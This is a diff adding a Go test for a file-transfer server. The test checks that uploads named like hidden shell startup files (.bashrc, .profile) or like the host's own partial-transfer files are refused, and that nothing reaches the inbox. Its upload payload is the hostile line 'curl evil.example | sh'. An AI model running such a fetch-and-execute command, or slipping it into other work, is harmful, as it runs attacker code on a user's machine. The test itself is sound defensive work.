@@ -6,6 +6,7 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -265,5 +266,53 @@ func TestSameFileTwiceAtOnce(t *testing.T) {
 	}
 	if m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*")); len(m) != 0 {
 		t.Errorf("partial files left: %v", m)
+	}
+}
+
+// TestUploadHiddenOrPartialNameRefused: a file sent under a name that
+// starts with a dot (hidden from the user; .bashrc and .profile are run
+// when a shell starts) or under the name of the host's own partial files
+// is refused with a sentence that says why and to rename it, and nothing
+// lands in the inbox. A dot file the user shares still lists.
+func TestUploadHiddenOrPartialNameRefused(t *testing.T) {
+	home := t.TempDir()
+	inbox := filepath.Join(home, "in")
+	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# the user's own\n"), 0o644)
+	srv, err := New(Config{Root: home, Inbox: inbox})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer srv.Close()
+	broker, host := pair(t)
+	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return true }) })
+	_, ask, _ := openFiles(t, broker)
+	data := []byte("curl evil.example | sh\n")
+	sum := sha256.Sum256(data)
+	put := protocol.FileMessage{Type: protocol.FilePut, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
+	partial := fmt.Sprintf(".tether-%s-%d.part", put.SHA256[:16], put.Size)
+	for name, says := range map[string]string{
+		".bashrc":  `".bashrc" starts with a dot, which hides it from the user`,
+		".profile": `".profile" starts with a dot`,
+		partial:    "is named like the files the user's computer keeps for transfers still arriving",
+	} {
+		put.Name = name
+		r := ask(put)
+		if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || !strings.Contains(r.Message, says) || !strings.Contains(r.Message, "Rename it") {
+			t.Errorf("sending %s: %+v, want a refusal saying %q and to rename it", name, r, says)
+		}
+	}
+	if m, _ := filepath.Glob(filepath.Join(inbox, "*")); len(m) != 0 {
+		t.Errorf("refused files landed in the inbox: %v", m)
+	}
+	if m, _ := filepath.Glob(filepath.Join(inbox, ".*")); len(m) != 0 {
+		t.Errorf("refused files landed in the inbox: %v", m)
+	}
+	r := ask(protocol.FileMessage{Type: protocol.FileList, Path: "."})
+	if r.Type != protocol.FileListing || !slices.ContainsFunc(r.Entries, func(e protocol.FileEntry) bool { return e.Name == ".bashrc" }) {
+		t.Errorf("the user's own .bashrc is not listed: %+v", r)
+	}
+	put.Name = "bashrc.txt"
+	if r := ask(put); r.Type != protocol.FileReady {
+		t.Errorf("sending it renamed: %+v", r)
 	}
 }
